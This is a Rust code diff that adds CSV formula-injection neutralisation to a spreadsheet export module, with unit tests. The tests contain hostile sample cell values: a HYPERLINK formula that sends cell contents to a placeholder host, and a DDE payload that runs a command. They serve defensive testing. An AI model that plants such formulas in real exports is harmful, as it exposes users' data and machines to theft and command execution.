@@ -3,6 +3,41 @@
 //! accents) and to XLSX (bold wrapped headers, column widths, dates as dates).
 use chrono::NaiveDate;
 use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook, XlsxError};
+use std::borrow::Cow;
+
+/// Characters that make a spreadsheet read a CSV field as a formula (OWASP "CSV injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The one neutraliser of CSV text: a text field beginning with `=`, `+`, `-`, `@`, tab or
+/// carriage return gets a leading `'`, so Excel and LibreOffice show it as text instead of
+/// running it (OWASP's rule). Numbers and dates never pass here: they stay numbers.
+pub fn csv_text(text: &str) -> Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// Writes a record of text fields, each through [`csv_text`].
+fn text_record<'a, W: std::io::Write>(
+    w: &mut csv::Writer<W>,
+    fields: impl IntoIterator<Item = &'a str>,
+) -> Result<(), csv::Error> {
+    for field in fields {
+        w.write_field(csv_text(field).as_bytes())?;
+    }
+    w.write_record(None::<&[u8]>)
+}
+
+/// The reverse of [`csv_text`] for files read back (an exported CSV imports as it was written):
+/// drops the `'` before a formula character, as a spreadsheet does when it shows the cell.
+pub fn csv_text_read(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => text,
+    }
+}
 
 /// What a column holds, which decides how XLSX stores it.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -88,7 +123,7 @@ impl Cell {
     fn as_csv(&self) -> String {
         match self {
             Cell::Empty => String::new(),
-            Cell::Text(t) => t.clone(),
+            Cell::Text(t) => csv_text(t).into_owned(),
             Cell::Number(n) if n.fract() == 0.0 => format!("{n:.0}"),
             Cell::Number(n) => format!("{n:.2}"),
             Cell::Date(d) => d.format("%Y-%m-%d").to_string(),
@@ -117,19 +152,19 @@ impl Sheet {
         let mut out = Vec::from(&b"\xEF\xBB\xBF"[..]);
         {
             let mut w = csv::WriterBuilder::new().flexible(true).from_writer(&mut out);
-            w.write_record([self.title.as_str()])?;
+            text_record(&mut w, [self.title.as_str()])?;
             for (k, v) in &self.header_block {
-                w.write_record([k.as_str(), v.as_str()])?;
+                text_record(&mut w, [k.as_str(), v.as_str()])?;
             }
             w.write_record([""])?;
-            w.write_record(self.columns.iter().map(|c| c.header))?;
+            text_record(&mut w, self.columns.iter().map(|c| c.header))?;
             for row in &self.rows {
                 w.write_record(row.iter().map(Cell::as_csv))?;
             }
             if !self.footer_block.is_empty() {
                 w.write_record([""])?;
                 for (k, v) in &self.footer_block {
-                    w.write_record([k.as_str(), v.as_str()])?;
+                    text_record(&mut w, [k.as_str(), v.as_str()])?;
                 }
             }
             w.flush()?;
@@ -237,6 +272,36 @@ mod tests {
             ]],
             footer_block: vec![("Elaboró".into(), "Martha".into())],
         }
+    }
+
+    #[test]
+    fn csv_text_neutralises_formula_starts_and_reads_back() {
+        for (raw, safe) in [
+            ("=HYPERLINK(\"http://x/?\"&A1,\"ver\")", "'=HYPERLINK(\"http://x/?\"&A1,\"ver\")"),
+            ("+cmd|\" /C calc\"!A0", "'+cmd|\" /C calc\"!A0"),
+            ("-2+3", "'-2+3"),
+            ("@evil", "'@evil"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Revisar accesos", "Revisar accesos"),
+            ("'ya", "'ya"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_text(raw), safe);
+            assert_eq!(csv_text_read(&csv_text(raw)), raw);
+        }
+    }
+
+    #[test]
+    fn csv_text_cells_are_neutralised_and_numbers_are_not() {
+        let mut s = sample();
+        s.title = "=1+1".into();
+        s.rows[0][4] = Cell::text("@SUM(A1)");
+        s.rows[0][8] = Cell::Number(-4.0);
+        let text = String::from_utf8(s.to_csv().unwrap()[3..].to_vec()).unwrap();
+        assert!(text.starts_with("'=1+1\n"), "{text}");
+        assert!(text.contains(",'@SUM(A1),"), "{text}");
+        assert!(text.contains(",-4,"), "{text}");
     }
 
     #[test]
